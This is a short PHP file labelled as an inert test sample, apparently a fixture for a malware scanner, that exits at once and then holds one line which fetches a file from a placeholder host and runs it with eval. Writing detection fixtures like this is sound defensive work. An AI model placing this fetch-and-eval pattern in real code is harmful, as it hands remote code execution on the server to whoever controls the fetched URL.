<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

eval(file_get_contents('http://example.invalid/payload.txt'));
